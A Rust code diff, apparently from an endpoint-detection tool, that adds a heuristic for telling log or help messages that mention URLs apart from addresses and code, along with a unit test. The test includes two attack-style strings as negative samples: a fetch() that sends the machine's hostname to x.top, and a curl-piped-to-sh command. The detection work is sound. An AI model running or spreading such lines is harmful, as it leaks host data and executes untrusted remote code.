@@ -178,6 +178,26 @@ pub fn literal_endpoints(value: &str) -> Vec<(String, Option<String>)> {
     out
 }
 
+/// Whether a string literal is a message that mentions addresses (a log line, a help text, a
+/// docs link in prose: "events go to https://… (see the docs)") rather than an address or
+/// code: three or more words of letters besides its URLs and none of code's marks. Looser than
+/// [`is_prose`], which judges decoded strings: a sentence's parentheses and semicolons pass.
+pub fn is_message(text: &str) -> bool {
+    const CODE: &[&str] = &[
+        "=>", "{", "}", "==", "('", "(\"", "${", "+ ", "| ", "();", "&&",
+    ];
+    if !text.contains(' ') || CODE.iter().any(|c| text.contains(c)) {
+        return false;
+    }
+    let words = text
+        .split_whitespace()
+        .filter(|w| !w.contains("://") && !w.contains('/'))
+        .map(|w| w.trim_matches(|c: char| !c.is_alphabetic()))
+        .filter(|w| w.len() >= 2 && w.chars().all(char::is_alphabetic))
+        .count();
+    words >= 3
+}
+
 /// A one-line excerpt of `src[start..end]` of at most ~100 characters, whitespace collapsed,
 /// for the steps of a flow.
 pub fn snippet(src: &str, start: u32, end: u32) -> String {
@@ -509,6 +529,24 @@ pub fn is_env_name(n: &str) -> bool {
 
 #[cfg(test)]
 mod tests {
+    #[test]
+    fn a_message_that_mentions_an_address_is_one() {
+        use super::is_message as is_prose;
+        assert!(is_prose(
+            "Usage statistics go to https://api.mixpanel.com/track unless DO_NOT_TRACK is set."
+        ));
+        assert!(is_prose("see https://docs.sentry.io/ for crash reports"));
+        assert!(is_prose(
+            "show where you are (looked up at https://ipinfo.io/json); off with --no-geo"
+        ));
+        assert!(!is_prose("https://api.mixpanel.com/track"));
+        assert!(!is_prose("POST https://api.mixpanel.com/track"));
+        assert!(!is_prose(
+            "fetch('https://x.top/c?d=' + require('os').hostname()); console.log(1)"
+        ));
+        assert!(!is_prose("curl -s https://x.top/i.sh | sh"));
+    }
+
     #[test]
     fn hidden_loopback_addresses_are_no_destinations() {
         assert!(decoded_endpoints("http://localhost:3000/api").is_empty());
